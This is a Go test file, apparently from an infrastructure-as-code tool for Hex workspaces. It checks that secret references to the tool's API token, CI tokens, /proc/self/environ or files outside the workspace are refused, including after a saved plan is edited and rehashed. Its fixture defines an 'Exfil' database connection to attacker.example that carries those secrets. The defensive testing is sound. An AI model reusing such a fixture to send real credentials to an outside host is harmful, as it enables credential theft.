package main

import (
	"bytes"
	"encoding/json"
	"os"
	"strings"
	"testing"

	"github.com/hexform/hexform/internal/hexsim"
	"github.com/hexform/hexform/reconcile"
)

// guardState is a Hex workspace with one admin and nothing else.
const guardState = `{"users": [{"email": "alice@acme.com", "role": "admin", "active": true}]}`

// guardWorkspace creates a connection to a host the file's author chose,
// with the password taken from the reference ref.
func guardWorkspace(ref string) string {
	return `version: 1
workspace: guard
connections:
  - name: Exfil
    type: postgres
    config: {hostname: attacker.example, port: 5432, database: d, username: u}
    secrets:
      password: ` + ref + `
`
}

// TestHexSecretRefCannotReachToken: a secret reference naming hexform's
// own API token (its variable) or a CI credential, or a file outside the
// workspace directory, is refused by validate, plan and apply; the
// --token-file, which only apply knows, by apply. Nothing is sent to Hex.
func TestHexSecretRefCannotReachToken(t *testing.T) {
	for name, tc := range map[string]struct {
		ref, want string
		tokenFile bool
	}{
		"HEX_API_TOKEN":  {ref: "{env: HEX_API_TOKEN}", want: "secret env:HEX_API_TOKEN is refused"},
		"GITHUB_TOKEN":   {ref: "{env: GITHUB_TOKEN}", want: "secret env:GITHUB_TOKEN is refused"},
		"ACTIONS_*":      {ref: "{env: ACTIONS_ID_TOKEN_REQUEST_TOKEN}", want: "secret env:ACTIONS_ID_TOKEN_REQUEST_TOKEN is refused"},
		"--token-file":   {ref: "{file: hex.token}", want: "secret file:hex.token is refused", tokenFile: true},
		"/proc environ":  {ref: "{file: /proc/self/environ}", want: "secret file:/proc/self/environ is refused"},
		"outside the ws": {ref: "{file: ../hex.token}", want: "secret file:../hex.token is refused"},
	} {
		t.Run(name, func(t *testing.T) {
			r := newHexRig(t, hexsim.Config{}, loadState(t, guardState))
			r.env["GITHUB_TOKEN"] = "ghs_guardSECRET-github"
			r.env["ACTIONS_ID_TOKEN_REQUEST_TOKEN"] = "guardSECRET-oidc"
			r.secrets = append(r.secrets, r.env["GITHUB_TOKEN"], r.env["ACTIONS_ID_TOKEN_REQUEST_TOKEN"])
			ws := r.write("workspace.yaml", guardWorkspace(tc.ref))
			var tokenArgs []string
			if tc.tokenFile {
				tokenArgs = []string{"--token-file", r.write("hex.token", rigToken+"\n")}
				delete(r.env, "HEX_API_TOKEN")
			}
			if err := os.WriteFile(r.dir+"/../hex.token", []byte(rigToken), 0o600); err != nil {
				t.Fatal(err)
			}
			runs := [][]string{
				{"validate", "-f", ws},
				{"plan", "-f", ws},
				{"apply", "-f", ws, "--auto-approve"},
			}
			if tc.tokenFile {
				runs = [][]string{append(runs[2], tokenArgs...)}
			}
			for _, args := range runs {
				res := r.hexform(args...)
				if res.code != exitError || !strings.Contains(res.stdout+res.stderr, tc.want) {
					t.Errorf("hexform %s: exit %d, want 1 and %q\nstdout:\n%s\nstderr:\n%s", args[0], res.code, tc.want, res.stdout, res.stderr)
				}
			}
			if cs := r.sim.Snapshot().Connections; len(cs) != 0 {
				t.Fatalf("a connection was sent to Hex: %+v", cs)
			}
		})
	}
}

// TestHexSavedPlanCannotReachToken: a saved plan edited to point a secret
// at the API token, or outside the settings.secrets it recorded, is refused
// when applied, and nothing is sent: the resolver applies the same rules as
// validate.
func TestHexSavedPlanCannotReachToken(t *testing.T) {
	for name, tc := range map[string]struct{ settings, ref, want string }{
		"token":              {ref: "env:HEX_API_TOKEN", want: "secret env:HEX_API_TOKEN is refused: it is hexform's own API token"},
		"outside the policy": {settings: "settings:\n  secrets: {env: [\"PG_*\"]}\n", ref: "env:AWS_SECRET", want: "secret env:AWS_SECRET is refused: it matches none of settings.secrets.env (PG_*)"},
	} {
		t.Run(name, func(t *testing.T) {
			r := newHexRig(t, hexsim.Config{}, loadState(t, guardState))
			r.setSecret("PG_PASSWORD", "guard-pg-password-value")
			r.setSecret("AWS_SECRET", "guard-aws-secret-value")
			ws := r.write("workspace.yaml", strings.Replace(guardWorkspace("{env: PG_PASSWORD}"), "connections:", tc.settings+"connections:", 1))
			saved := r.dir + "/saved.json"
			r.mustCode(r.hexform("plan", "-f", ws, "--out", saved), exitOK, "plan --out")
			r.write("saved.json", editPlan(t, saved, `"env:PG_PASSWORD"`, `"`+tc.ref+`"`))
			res := r.hexform("apply", saved, "--auto-approve")
			if res.code != exitError || !strings.Contains(res.stdout+res.stderr, tc.want) {
				t.Errorf("apply of the edited plan: exit %d, want 1 and %q\nstdout:\n%s\nstderr:\n%s", res.code, tc.want, res.stdout, res.stderr)
			}
			if cs := r.sim.Snapshot().Connections; len(cs) != 0 {
				t.Fatalf("a connection was sent to Hex: %+v", cs)
			}
		})
	}
}

// editPlan replaces old by new in the plan file at path and hashes it
// again: whoever edits a plan file can, since the plan hash shows that a
// plan changed but cannot say who changed it.
func editPlan(t *testing.T, path, old, new string) string {
	t.Helper()
	data, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	edited := strings.ReplaceAll(string(data), old, new)
	if edited == string(data) {
		t.Fatalf("the saved plan holds no %s:\n%s", old, data)
	}
	var p reconcile.Plan
	if err := json.Unmarshal([]byte(edited), &p); err != nil {
		t.Fatal(err)
	}
	var rehashed bytes.Buffer
	if err := reconcile.RenderJSON(&rehashed, &p); err != nil {
		t.Fatal(err)
	}
	return rehashed.String()
}
